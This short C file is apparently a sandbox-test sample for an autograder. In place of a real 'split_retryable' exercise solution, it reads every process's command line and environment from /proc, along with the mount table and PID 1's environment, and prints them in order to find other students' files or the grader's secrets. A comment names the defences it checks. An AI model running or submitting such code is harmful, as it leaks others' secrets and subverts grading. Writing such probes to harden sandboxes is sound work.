/* attack: split_retryable
 * /proc snooping: every process's command line and environment, the
 * mount table and open descriptors, looking for other students' paths,
 * the grader's environment, or the checker's arguments.  Stopped by: a
 * private pid namespace (only the sandbox's own processes) and a cleared
 * environment. */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "split_retryable.h"

static void show(const char *path)
{
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return;
    char buf[8192];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0)
        return;
    for (ssize_t i = 0; i < n; i++)
        if (buf[i] == '\0')
            buf[i] = ' ';
    buf[n] = '\0';
    fprintf(stderr, "%s: %s\n", path, buf);
}

void split_retryable(tg_error *eg, tg_error **retry, tg_error **give_up)
{
    (void)eg;
    (void)retry;
    (void)give_up;
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9')
            continue;
        char p[300];
        snprintf(p, sizeof p, "/proc/%s/cmdline", e->d_name);
        show(p);
        snprintf(p, sizeof p, "/proc/%s/environ", e->d_name);
        show(p);
    }
    if (d)
        closedir(d);
    show("/proc/self/mountinfo");
    show("/proc/1/cmdline");
    show("/proc/1/environ");
    __builtin_trap();
}
